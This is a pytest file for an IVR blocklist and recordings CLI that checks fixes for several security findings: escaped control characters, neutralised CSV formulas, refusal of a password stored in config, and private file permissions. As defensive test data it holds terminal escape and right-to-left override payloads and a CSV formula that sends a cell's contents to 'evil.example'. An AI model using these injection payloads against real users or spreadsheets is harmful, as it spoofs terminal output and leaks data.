"""Issue 26, findings 8 to 12: what a supervisor types, and what the CLI writes and prints.

Each test performs the attack the issue reproduced and shows it now fails: escape sequences
and forged lines in notes, formula cells in an exported CSV, a traceback for a bad export
path, an export left on disk without its audit row, a database password in the TOML file,
and world-readable data and exports.
"""

from __future__ import annotations

import asyncio
import json
import os
import sqlite3
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.support.cli import IVR, ME, as_user, ivr_json, run_ivr
from tests.support.recordings import cli_env, spool_failopen, storage_cfg
from tests.support.service import Service

PROPOSE = ["blocklist", "propose", "0312345678", "--category", "threats"]
Supervise = Callable[..., dict[str, str]]
HOSTILE = [
    "\x1b[2K\x1b[1Aall clear",  # erase the line, move up: rewrites what was printed before
    "\x1b]0;owned\x07",  # OSC: sets the terminal's title
    "fine\ncalls refused: 99",  # a forged line in `blocklist show`
    "evil\u202etxt.exe",  # right-to-left override
    "c1\x9bcontrol",  # C1 CSI
]


async def ivr(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """`ivr` in a thread: the service that answers it runs on this test's event loop."""
    return await asyncio.to_thread(run_ivr, args, env)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_notes_with_control_or_direction_characters_are_refused(
    tmp_path: Path, supervise: Supervise
) -> None:
    env = supervise(tmp_path)
    for note in HOSTILE:
        res = run_ivr([*PROPOSE, "--note", note], env)
        assert res.returncode == 4, res.stderr
        assert "control or direction character" in res.stderr
        assert "\x1b" not in res.stderr and "\u202e" not in res.stderr
    assert ivr_json(["audit", "log"], env) == []


def test_stored_hostile_text_is_printed_escaped(tmp_path: Path, supervise: Supervise) -> None:
    """Rows written before the check (or by SQL) still cannot drive the terminal."""
    env = supervise(tmp_path)
    db = sqlite3.connect(tmp_path / "data" / "ivr.sqlite3")
    db.execute(
        "INSERT INTO blocklist_entries (pattern, is_prefix, status, action, category, note,"
        " evidence, proposed_by, proposed_at) VALUES (?, 0, 'pending', 'reject', 'threats', ?,"
        " '[]', 'alice', ?)",
        ("+81312345678", HOSTILE[0] + HOSTILE[2] + HOSTILE[3], "2026-11-24 01:00:00.000000"),
    )
    db.commit()
    db.close()
    res = run_ivr(["blocklist", "show", "1"], env)
    assert res.returncode == 0, res.stderr
    assert "\x1b" not in res.stdout and "\u202e" not in res.stdout
    assert "\\x1b[2K" in res.stdout and "\\u202e" in res.stdout
    assert not any(line.startswith("calls refused: 99") for line in res.stdout.splitlines())


def test_exported_csv_cells_cannot_start_a_formula(tmp_path: Path, supervise: Supervise) -> None:
    env = supervise(tmp_path)
    ivr_json([*PROPOSE, "--note", '=HYPERLINK("http://evil.example/?"&A1,"click")'], env)
    res = run_ivr(["blocklist", "export"], env)
    assert res.returncode == 0, res.stderr
    cells = [c for line in res.stdout.splitlines()[1:] for c in line.split(",")]
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@"))], cells
    assert "'+81312345678" in res.stdout and "\"'=HYPERLINK(" in res.stdout
    # What is exported imports back unchanged (the apostrophe is ours, and is removed).
    exported = tmp_path / "out.csv"
    exported.write_text(res.stdout)
    ivr_json(["blocklist", "reject", "1", "--note", "re-import"], as_user(env, "suzuki"))
    res = run_ivr(["blocklist", "import", str(exported)], env)
    assert res.returncode == 0, res.stderr
    entries = ivr_json(["blocklist", "list", "--status", "pending"], env)
    assert [(e["pattern"], e["note"][:11]) for e in entries] == [("+81312345678", "=HYPERLINK(")]


def test_a_database_password_in_the_file_is_refused(tmp_path: Path) -> None:
    cfg = tmp_path / "ivr.toml"
    cfg.write_text('[database]\nurl = "postgresql+asyncpg://ivr:s3cret@db.example/ivr"\n')
    res = run_ivr(["config", "check", "--config", str(cfg)], dict(os.environ))
    assert res.returncode == 2
    assert "database.url" in res.stderr and "IVR_DATABASE_URL" in res.stderr
    assert "s3cret" not in res.stderr


def test_data_folder_and_database_are_private_whatever_the_umask(tmp_path: Path) -> None:
    data = tmp_path / "data"
    env = dict(os.environ, IVR_DATA_DIR=str(data))
    res = subprocess.run(
        ["sh", "-c", f"umask 022 && {IVR} db upgrade"], env=env, capture_output=True, check=False
    )
    assert res.returncode == 0, res.stderr
    assert _mode(data) == 0o700
    assert _mode(data / "ivr.sqlite3") == 0o600


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # a SQLite lock is part of it
async def test_export_failures_are_one_line_and_exports_private(
    make_service: Any, tmp_path: Path
) -> None:
    cfg = storage_cfg(tmp_path)
    cfg["supervisors"] = {ME: "supervisor"}
    svc: Service = await make_service(cfg)
    spool_failopen(svc, 1)
    await svc.app.handoff.scan_once()
    env = cli_env(svc, tmp_path / "cli.toml")
    res = await ivr(["recordings", "export", "failopen-1795.0.wav", "--to", "/nonexist/x.wav"], env)
    assert res.returncode == 4
    assert res.stderr.strip().splitlines() == ["invalid: /nonexist: no such folder"]
    out = tmp_path / "copy.wav"
    res = await asyncio.to_thread(
        subprocess.run,
        ["sh", "-c", f"umask 000 && {IVR} recordings export failopen-1795.0.wav --to {out}"],
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert res.returncode == 0, res.stderr
    assert _mode(out) == 0o600
    # The database locked by another writer: the export fails, and leaves no file behind.
    locked = tmp_path / "locked.wav"
    db = sqlite3.connect(svc.cfg.database_url().removeprefix("sqlite+aiosqlite:///"))
    db.execute("BEGIN IMMEDIATE")
    try:
        res = await ivr(["recordings", "export", "failopen-1795.0.wav", "--to", str(locked)], env)
    finally:
        db.rollback()
        db.close()
    assert res.returncode == 1 and "locked" in res.stderr
    assert not locked.exists()
    assert not list(tmp_path.glob(".locked.wav.*"))
    trail = json.loads((await ivr(["audit", "log", "--json"], env)).stdout)
    assert [e["reason"] for e in trail if e["action"] == "rec-export"] == [f"to {out}"]
